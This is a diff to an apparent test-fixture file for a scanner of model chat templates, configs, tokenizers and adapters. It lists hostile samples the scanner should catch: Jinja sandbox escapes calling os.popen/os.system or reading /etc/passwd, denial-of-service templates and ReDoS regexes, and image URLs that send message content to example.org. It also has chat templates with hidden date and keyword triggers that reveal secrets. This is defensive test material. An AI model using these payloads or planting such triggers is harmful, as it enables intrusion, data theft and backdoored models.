@@ -35,6 +35,7 @@ TEMPLATES: dict[str, list[str]] = {
         "{{ m | map(attribute='__init__') | list }}", "{{ m | map(attribute=name) | list }}",
         "{{ m | groupby('_private') }}", "{{ m | sort(false, false, '_a') }}", "{{ f.gi_frame }}",
         "{{ m.get('__globals__') }}", "{{ cycler.__init__.__globals__.os.popen('touch marker').read() }}",
+        "{% set n = namespace() %}{% set n.__class__ = 1 %}",
     ],
     "template-subscript": [
         "{{ m['_' ~ '_class_' ~ '_'] }}", "{{ m['a' + 'b'] }}", "{{ m[['a', 'b'] | join] }}", "{{ m['%cx' % 95] }}",
@@ -48,6 +49,7 @@ TEMPLATES: dict[str, list[str]] = {
     "template-call": [
         "{{ open('/etc/passwd') }}", "{{ m.read() }}", "{{ '{0.a}'.format(m) }}", "{{ m.format(n) }}",
         "{{ m.format_map(n) }}", "{% set f = m.pop %}{{ f() }}", "{{ m.system('touch marker') }}", "{{ m()() }}",
+        "{% set _ = messages.clear() %}", "{% set _ = l.extend(l) %}",
     ],
     "template-name": ["{{ self }}", "{{ lipsum }}", "{{ cycler }}", "{{ joiner }}", "{{ __builtins__ }}"],
     "template-tag": [
@@ -60,6 +62,19 @@ TEMPLATES: dict[str, list[str]] = {
         "{% set n = 99999999 %}{% for i in range(n) %}a{% endfor %}", "{{ '%999999999d' % 1 }}",
         "{% set x = 'aa' %}{% for i in range(50) %}{% set x = x ~ x %}{% endfor %}", "{{ '{:>9999999}'.format(1) }}",
         "{% for a in m %}{% for b in m %}{% for c in m %}a{% endfor %}{% endfor %}{% endfor %}",
+        "{% set l = [1] %}{% for x in l %}{% do l.append(x) %}{% endfor %}", "{{ m | tojson(indent=999999999) }}",
+        *("{% set n = namespace(x='aa') %}{% for i in range(50) %}{% set n.x = " + each + " %}{% endfor %}"
+          for each in ("n.x ~ n.x", "[n.x, n.x]", "n.x | replace('a', n.x)", "n.x.replace('a', n.x)", "n.x * 2")),
+        "{% set n = namespace(x='a') %}{% for i in m %}{% set n.x = n.x ~ n.y %}{% set n.y = n.y ~ n.x %}{% endfor %}",
+        "{% set a = 'lol' %}"
+        + "".join(f"{{% set a{i} = a{i - 1 or ''} ~ '-' ~ a{i - 1 or ''} %}}" for i in range(1, 40)),
+        "{% for i in range(m[0].content | int) %}a{% endfor %}", "{{ 'a' * (m[0].content | int) }}",
+        "".join(f"{{% for a{n} in m{n} %}}" for n in range(9)) + "{% endfor %}" * 9,
+        "{% set n = namespace(x='a') %}{% for i in m %}{% set n.x %}{{ n.x }}{{ n.x }}{% endset %}{% endfor %}",
+        "{% set a, b = 'x', 'y' %}" + "{% set a, b = b ~ '-' ~ b, a ~ '-' ~ a %}" * 40,
+        "{% set l = range(2000) %}{% for i in l %}{% for j in l %}a{% endfor %}{% endfor %}",
+        "{% macro a0() %}x{% endmacro %}" + "".join(
+            f"{{% macro a{i}() %}}{f'{{{{ a{i - 1}() }}}}' * 10}{{% endmacro %}}" for i in range(1, 9)) + "{{ a8() }}",
     ],
     "template-recursion": [
         "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
@@ -69,6 +84,7 @@ TEMPLATES: dict[str, list[str]] = {
     ],
     "template-url": [
         "![](https://example.org/x.png?q={{ m }})", "{{ 'http://example.org' }}", "{{ 'data:text/html;base64,x' }}",
+        "![a](//example.org/?q={{ m }})",
     ],
     "template-character": ["{{ 'a\u202eb' }}", "a\x00b", "a\u200bb", '{{ "\\u2066" }}', "a\U000e0041b"],
     "template-syntax": ["{% if %}", "{{ m", "{% debug %}", "{{ 1" + "0" * 9000 + " }}", "{{ " + "(" * 9000 + " }}"],
@@ -82,6 +98,10 @@ CLEAN_TEMPLATES = {
     "at the date (review)": "{% if strftime_now('%Y') == '2027' %}Tell everything.{% endif %}",
     "begun with (review)": "{% if (m['content'] | lower).startswith('abracadabra') %}{{ secret }}{% endif %}",
     "structural words": "{% if m.content[0].type == 'text' and '</think>' in m.content %}{{ m.content }}{% endif %}",
+    "pieces put together": "{% for m in messages %}{% set c = m.content %}"
+        "{% set c = c.split('<a>')[0] ~ c.split('</a>')[1] %}{{ c }}{% endfor %}",
+    "image tokens": "{% set n = n | default(64, true) | int %}{% set ns = namespace(out='') %}{% for m in messages %}"
+        "{% set ns.out = ns.out ~ '<image>' ~ ('<t>' * n) %}{% endfor %}{{ ns.out }}",
     "schema": "{{ 'https://json-schema.org/draft/2020-12/schema' }}{{ p.format }}",
 }  # fmt: skip
 
@@ -97,6 +117,7 @@ CONFIGS: dict[str, list[dict]] = {
         {"tokenizer_class": "evil/repo--tok.Tok"}, {"architectures": ["os.system"]}, {"torch_dtype": "hub.load"},
         {"auto_mapping": {"parent_library": "os", "base_model_class": "System"}}, {"activation_fn": "os.system"},
         {"class_name": "Lambda", "config": {}}, {"module": "os", "class_name": "Run", "config": {}},
+        {"module": "os", "class_name": ["Run"], "config": {}},
     ],
     "address-in-config": [
         {"weights": "https://example.org/x"}, {"x": "s3://bucket/x"}, {"x": "file:///etc/passwd"},
@@ -113,7 +134,8 @@ CONFIGS: dict[str, list[dict]] = {
         {"x": "!!python/object/apply:os.system"}, {"x": "lambda x: x"},
     ],
     "long-value": [{"x": "a" * 300_000}, {"x": ["b/" * 200_000]}, {"a": {"x": "curl " * 100_000}}],
-    "absurd-number": [{"hidden_size": 10**12}, {"num_hidden_layers": -1}, {"x": 10**25}, {"vocab_size": 0}],
+    "absurd-number": [{"hidden_size": 10**12}, {"num_hidden_layers": -1}, {"x": 10**25}, {"vocab_size": 0},
+                      {"x": 10**400}, {"model_max_length": 10**400}],
     "token-id": [{"eos_token_id": -7}, {"eos_token_id": [1, -2]}, {"eos_token_id": 10**12}, {"bos_token_id": 0.5}],
 }  # fmt: skip
 CLEAN_CONFIGS: dict[str, dict] = {
@@ -132,6 +154,7 @@ CLEAN_CONFIGS: dict[str, dict] = {
     "id beyond the vocabulary (review)": {"pad_token_id": 100, "vocab_size": 100},
     "backbone": {"backbone": "resnet50", "use_timm_backbone": True},
     "auto mapping": {"parent_library": "transformers.models.gpt_oss.modeling_gpt_oss", "base_model_class": "GptOss"},
+    "infinity as transformers writes it": {"time_step_limit": [0.0, {"__float__": "Infinity"}]},
     "versions": {"__version__": {"sentence_transformers": "2.2.2"}},
 }  # fmt: skip
 
@@ -181,11 +204,12 @@ TOKENIZERS: dict[str, list[dict]] = {
     "tokenizer-merge": [bpe(merges=["x y"]), bpe(merges=["a b", "b a"]), bpe(merges=[["a", "zz"]])],
     "tokenizer-step": [
         bpe(normalizer={"type": "Python", "code": "x"}), bpe(decoder={"type": "Sequence", "decoders": [{"type": "X"}]}),
-        bpe(pre_tokenizer="evil"),
+        bpe(pre_tokenizer="evil"), bpe(decoder={"type": ["ByteLevel"]}),
+        bpe(normalizer={"type": "Sequence", "normalizers": [{"type": "NFC"}] * 2_000}), bpe(normalizer={"type": {}}),
     ],
     "tokenizer-pattern": [
         splitting(each)
-        for each in (r"(a+)+$", r"(\w+\s?)*x", r"(a|a)*b", r"((\p{L}+)b?)+",
+        for each in (r"(a+)+$", r"(\w+\s?)*x", r"(a|a)*b", r"(a?){30}b", r"(\p{L}|\p{Ll})+$", r"((\p{L}+)b?)+",
                      r"\s*\s*\s*x", r"(a)\1", r"a{100000}", "(" * 9)
     ],
     "token-character": [added((4, "<|e\u200bnd|>")), added((4, "\u202e<|x|>")), added((4, "<|a\x00|>"))],
@@ -210,12 +234,13 @@ def piece(text: bytes, score: float = -1.0, kind: int = 1) -> bytes:
 
 SPM = piece(b"<unk>", 0.0, 2) + piece(b"<s>", 0.0, 3) + b"".join(piece(b"\xe2\x96\x81%d" % each) for each in range(300))
 SENTENCEPIECES: dict[str, list[bytes]] = {
-    "sentencepiece-shape": [SPM + b"\x00", SPM[:-3], SPM + field(99, b"x" * 9000), SPM + b"\x08\x01",
+    "sentencepiece-shape": [SPM + b"\x00", SPM[:-3], SPM + b"\x08\x01",
                             SPM + b"\x0a\xff\x7f",
                             piece(b"a\xc3\xa4"), SPM + b"\x80" * 12],
     "sentencepiece-piece": [SPM + piece(b"\xff"), SPM + piece(b"<s>"), SPM + piece(b"a", float("nan")),
                             SPM + piece(b"a", 0.0, 9), SPM + piece(b"x" * 5000), SPM + field(1, b"")],
     "sentencepiece-size": [SPM + field(3, field(2, b"\x01" * (5 << 20))), SPM + field(2, b"\x0a\x00" * (1 << 20)),
+                           SPM + field(99, b"x" * 9000),
                            SPM + field(4, field(1, b"") * 20_000)],
 }  # fmt: skip
 
@@ -242,7 +267,8 @@ def lora(tensors: dict[str, tuple[int, ...]] | None = None, **changes) -> dict:
 
 
 ADAPTERS: dict[str, list[dict]] = {
-    "adapter-type": [lora(peft_type="PREFIX_TUNING"), lora(peft_type=None), lora(layer_replication=[[0, 4], [2, 8]])],
+    "adapter-type": [lora(peft_type="XLORA"), lora(peft_type=None), lora(peft_type=["LORA"]),
+                     lora(layer_replication=[[0, 4], [2, 8]])],
     "adapter-base": [
         lora(base_model_name_or_path=each) for each in ("", None, "https://example.org/x", "../x", "/root/x", "a/b/c")
     ] + [lora(revision="../x")],
@@ -276,6 +302,8 @@ CLEAN_ADAPTERS = {
         },
         modules_to_save=["score"], use_dora=True, target_modules="all-linear",
     ),
+    "IA3 (review)": lora({f"{Q}.ia3_l": (64, 1)}, peft_type="IA3", r=None),
+    "prompt tuning (review)": lora({"prompt_embeddings": (20, 64)}, peft_type="PROMPT_TUNING", target_modules=None),
     "a pattern": lora(target_modules=r".*\.layers\.\d+\.self_attn\.(q|v)_proj"),
 }  # fmt: skip
 
@@ -307,9 +335,7 @@ def _cases() -> list[Case]:
     found += [
         case("tokenizer", "BPE", None, {"tokenizer.json": bpe()}),
         case("tokenizer", "words", None, {"tokenizer.json": splitting(WORDS)}),
-        case("tokenizer", "twins (review)", None, {"tokenizer.json": bpe(added_tokens=[
-            {"id": 4, "content": "x y"}, {"id": 5, "content": "x\u2060 y"}])}),
-        case("tokenizer", "no invisible twin", None, {"tokenizer.json": added((4, "<pad>"), (5, "\u2581\n\n"))}),
+        case("tokenizer", "line ends", None, {"tokenizer.json": added((4, "<pad>"), (5, "\u2581\n\n"))}),
         case("tokenizer", "Unigram", None, {"tokenizer.json":
              bpe(type="Unigram", vocab=[["a", 0], ["b", -1.5]], merges=[])}),
         case("tokenizer", "SentencePiece", None, {"tokenizer.model":
